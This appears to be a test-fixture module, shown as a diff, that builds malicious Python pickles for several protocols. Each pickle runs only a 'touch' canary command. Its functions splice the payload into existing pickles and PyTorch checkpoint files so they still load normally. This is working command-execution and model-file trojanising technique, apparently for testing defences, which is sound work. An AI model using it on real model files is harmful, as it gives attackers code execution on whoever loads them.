@@ -1,0 +1,58 @@
+"""payloads - malicious pickles, written opcode by opcode.
+
+Each calls os.system("touch CANARY") and nothing else; the canary tells whether it ran.
+"""
+
+import struct
+import zipfile
+from pathlib import Path
+
+PROTOCOLS = (0, 2, 4)
+
+
+def command(canary: Path) -> str:
+    """What the payload runs."""
+    return f"touch {canary}"
+
+
+def call(canary: Path, protocol: int) -> bytes:
+    """Opcodes that leave the result of the call on the stack."""
+    text = command(canary).encode("ascii")
+    if protocol < 2:  # GLOBAL, MARK, STRING, TUPLE, REDUCE
+        return b"cos\nsystem\n(S'" + text + b"'\ntR"
+    if protocol < 4:  # GLOBAL, BINUNICODE, TUPLE1, REDUCE
+        return b"cposix\nsystem\nX" + struct.pack("<I", len(text)) + text + b"\x85R"
+    # SHORT_BINUNICODE twice, STACK_GLOBAL, BINUNICODE, TUPLE1, REDUCE
+    names = b"\x8c\x05posix\x8c\x06system\x93"
+    return names + b"X" + struct.pack("<I", len(text)) + text + b"\x85R"
+
+
+def pickle_of(canary: Path, protocol: int) -> bytes:
+    """A whole pickle that is nothing but the payload."""
+    body = call(canary, protocol) + b"."
+    if protocol < 2:
+        return body
+    if protocol < 4:
+        return b"\x80" + bytes([protocol]) + body
+    return b"\x80" + bytes([protocol]) + b"\x95" + struct.pack("<Q", len(body)) + body
+
+
+def infect(clean: bytes, canary: Path) -> bytes:
+    """The same pickle with the payload in front: it loads to the same value.
+
+    The payload goes after PROTO and before the first FRAME, where opcodes may stand without one;
+    its result is dropped with POP.
+    """
+    if clean[:1] != b"\x80":
+        return call(canary, 0) + b"0" + clean
+    return clean[:2] + call(canary, clean[1]) + b"0" + clean[2:]
+
+
+def infect_torch_zip(clean: Path, into: Path, canary: Path) -> None:
+    """A copy of what torch.save() wrote, with the payload in its data.pkl."""
+    with zipfile.ZipFile(clean) as old, zipfile.ZipFile(into, "w") as new:
+        for member in old.infolist():
+            body = old.read(member)
+            if member.filename.endswith("/data.pkl"):
+                body = infect(body, canary)
+            new.writestr(zipfile.ZipInfo(member.filename), body)
